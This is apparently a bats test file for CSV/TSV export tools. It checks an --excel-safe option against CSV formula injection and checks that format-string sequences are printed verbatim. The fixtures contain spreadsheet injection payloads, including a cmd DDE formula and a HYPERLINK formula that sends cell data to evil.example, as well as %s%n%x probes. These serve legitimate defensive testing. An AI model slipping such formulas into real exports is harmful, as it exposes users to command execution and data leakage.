#!/usr/bin/env bats
# shellcheck disable=SC2016,SC2154,SC2164
# Hostile content (issue 9): text typed by customers rides in exports.
# --excel-safe (OWASP CSV injection) on every program's CSV and TSV output,
# the rejects file included; no format-string use of data.
# Goldens in tests/expected/hostile/ were checked cell by cell against the
# rule: a cell starting with = + - @ TAB or CR gets a ' unless it is a plain
# number ([+-] digits [. digits] [e [+-] digits]).
bats_require_minimum_version 1.5.0
load test_helper
PROG=jkpi
GOLDEN=hostile

setup() {
	cd "$FIX/hostile"
	T=$BATS_TEST_TMPDIR
}

@test "hostile: --excel-safe: which cells get the ' (numbers stay numbers), CSV and TSV" {
	PROG=jkpi
	jt --excel-safe -g g -k count cells.csv
	golden cells.csv
	# the rule, cell by cell, from the golden: -12 +3.5 -1e3 -.5 1e5 1.5e+3 are numbers;
	# - = @ + -1e + -0x1F --1 +-1 -inf are not; ' -1' starts with a blank, plain text
	run cut -d, -f1 "$T/out"
	assert_output "g
-12
+3.5
-1e3
'-
'=1+2
'@SUM(A1)
'+cmd|' /C calc'!A0
-.5
1e5
'-1e
'+
'-0x1F
\" -1\"
'--1
'+-1
1.5e+3
'-inf
plain"
	jt --excel-safe -g g -k count --format tsv cells.csv
	golden cells.tsv
}

@test "hostile: --excel-safe on every program: header and cells, quoting kept minimal, numbers untouched" {
	PROG=jtouch
	jt --excel-safe --customer id --touch 'seen t' --carry note raw.csv
	golden jtouch.csv
	PROG=jstage
	jt --excel-safe touches.csv
	golden jstage.csv
	PROG=jvalue
	jt --excel-safe touches.csv
	golden jvalue.csv
	PROG=jrefer
	jt --excel-safe touches.csv
	golden jrefer.csv
	PROG=jkpi
	jt --excel-safe -g customer,@note -k count touches.csv
	golden jkpi.csv
	# the header is export text too: '@note
	assert_equal "$(head -n 1 "$T/out")" "customer,'@note,count"
}

@test "hostile: --excel-safe applies to the --rejects file (people open it to see what went wrong)" {
	PROG=jkpi
	jtrc 0 -q --excel-safe -k sum:@note --rejects "$T/rj.csv" touches.csv
	golden rejects.csv "$T/rj.csv"
}

@test "hostile: without --excel-safe not a byte changes; md, json and html output ignore it" {
	PROG=jtouch
	jt --customer id --touch 'seen t' --carry note raw.csv
	same <<-'EOF'
	customer,time,touchpoint,source,channel,nps,csat,ces,first_reply_s,resolution_s,reopens,amount,delay_s,referee,note
	"=HYPERLINK(""http://evil.example/?""&A1,""x"")",2024-01-01T10:00:00Z,seen,raw,,,,,,,,,,,@SUM(1+1)*cmd|' /C calc'!A0
	c2,2024-01-02T10:00:00Z,seen,raw,,,,,,,,,,,-42
	EOF
	PROG=jkpi
	for fmt in md json html; do
		jt -g customer,@note -k count --format "$fmt" touches.csv
		cp "$T/out" "$T/plain"
		jt --excel-safe -g customer,@note -k count --format "$fmt" touches.csv
		cmp "$T/plain" "$T/out"
	done
}

@test "hostile: jkpi --partial refuses --excel-safe (state for --merge); --merge takes it" {
	PROG=jkpi
	jtrc 2 --partial --excel-safe -g customer -k count touches.csv
	err_is "jkpi: --excel-safe is for files people open; a --partial state is read by --merge (give --excel-safe to the merge)
Try 'jkpi --help' for more information."
	jt --partial -g customer -k count touches.csv
	cp "$T/out" "$T/p1"
	jt --merge -s --excel-safe "$T/p1"
	same <<-'EOF'
	customer,count
	'=c1,1
	'@r1,2
	c2,2
	c3,1
	EOF
}

@test "hostile: --excel-safe is listed by every program's --help and man page" {
	for prog in jtouch jstage jvalue jrefer jkpi; do
		run "$prog" --help
		assert_output --partial '--excel-safe'
		run grep -c 'excel-safe' "$REPO/man/man1/$prog.1"
		refute_output 0
	done
	run grep -c 'excel-safe' "$REPO/man/man7/jtools.7"
	refute_output 0
}

@test "hostile: %s%n%x in a field, a column name and a file name is printed verbatim, never read as a format" {
	printf 'g,%%n%%s\n%%s%%n%%x,%%s%%n%%x\n' >"$T/fmt.csv"
	PROG=jkpi
	# a field: in the message and in the rejects file
	jtrc 0 -k 'sum:%n%s' --max-rejects 100% --rejects "$T/rj.csv" "$T/fmt.csv"
	err_is "jkpi: $T/fmt.csv:2: column '%n%s': '%s%n%x' is not a number
jkpi: 1 row rejected (1 not a number) (see $T/rj.csv)"
	same "$T/rj.csv" <<-EOF
	g,%n%s,reject_file,reject_line,reject_reason
	%s%n%x,%s%n%x,$T/fmt.csv,2,column '%n%s': '%s%n%x' is not a number
	EOF
	# a column name, in the message that lists the columns
	jtrc 1 -k 'sum:%s%n%x' "$T/fmt.csv"
	err_is "jkpi: $T/fmt.csv:1: no column named '%s%n%x' (columns: g, %n%s)"
	# a file name
	jtrc 1 -k count "$T/%s%n%x.csv"
	err_is "jkpi: $T/%s%n%x.csv: No such file or directory"
	PROG=jstage
	jtrc 2 -r "$T/%s%n%x.rules" "$T/fmt.csv"
	err_is "jstage: $T/%s%n%x.rules: No such file or directory
Try 'jstage --help' for more information."
	PROG=jtouch
	jtrc 1 --customer '%s%n%x' --touch 'seen t' "$T/fmt.csv"
	assert_equal "$(head -n 1 "$T/err")" "jtouch: $T/fmt.csv:1: no column named '%s%n%x' (columns: g, %n%s)"
}
